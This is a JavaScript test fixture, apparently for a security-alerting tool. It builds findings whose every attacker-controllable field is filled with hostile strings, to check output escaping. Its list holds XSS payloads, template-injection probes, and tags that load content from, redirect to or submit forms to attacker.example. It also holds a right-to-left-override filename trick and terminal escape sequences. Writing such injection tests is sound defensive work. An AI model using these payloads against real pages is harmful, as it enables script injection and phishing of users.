// What an attacker may write into an event, in every place that is his to fill.
import { readFileSync } from "node:fs";
import { finding } from "./master.mjs";

// What every sink is held to, by where it might come alive.
const CORPUS = JSON.parse(readFileSync(new URL("../injection/strings.json", import.meta.url)));

export const TEXTS = [
  "<script>alert(1)</script>", "\"><script>alert(1)</script>", "'><img src=x onerror=alert(1)>",
  "<svg/onload=alert(1)>", "</title><script>alert(1)</script>", "</textarea><script>alert(1)</script>",
  "javascript:alert(1)", "<a href=javascript:alert(1)>x</a>", "<iframe src=https://attacker.example/>",
  "<link rel=stylesheet href=//attacker.example/a.css>", "<img src=https://attacker.example/a.png>",
  "<meta http-equiv=refresh content='0;url=https://attacker.example/'>", "<base href=//attacker.example/>",
  "<form action=https://attacker.example/><button>Sign in</button></form>", "{{7*7}}", "{% include 'x' %}", "${7*7}",
  "\" autofocus onfocus=alert(1) x=\"", "' style='position:fixed;inset:0' x='", "&lt;script&gt;alert(1)&lt;/script&gt;",
  "&#x3c;script&#x3e;alert(1)", "<!--", "-->", "<![CDATA[<script>alert(1)</script>]]>", "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
  "<details open ontoggle=alert(1)>", "<template><script>alert(1)</script></template>", "\u202egnp.exe", "\u0000\u0007\u001b[31m",
  "a".repeat(2000), "<b>bold</b>", "data:text/html,<script>alert(1)</script>", "\\u003cscript\\u003ealert(1)", "%3Cscript%3Ealert(1)%3C/script%3E",
  ...Object.values(CORPUS).flat(),
];

export function hostile(n, text) {
  return finding(n, (made) => {
    Object.assign(made, { title: text, explanation: text });
    made.rule.title = text;
    made.rule.name = text.slice(0, 200);
    made.account.name = text;
    Object.assign(made.event, { source: text, name: text, error_code: text });
    const short = text.slice(0, 1500); // more is refused
    made.principal = { type: short, arn: short, name: short, account: short, access_key_id: short, session_issuer: short };
    made.source = { ip: text, user_agent: text, geo: { country: text, city: text }, asn: { number: 64500, org: text }, reputation: [{ list: text, category: text }] };
    made.resources = [{ type: text, arn: text.slice(0, 1500), name: text }];
    made.facts = { [text.slice(0, 200)]: { [text.slice(0, 200)]: [text] } };
    made.matched = [{ selection: text, field: text.slice(0, 500), value: text }];
    made.attack = [text.slice(0, 100)];
    made.references = [text, "javascript:alert(1)"];
    made.incomplete = [text];
    made.record = { [text]: text, requestParameters: [{ [text]: text }] };
  });
}
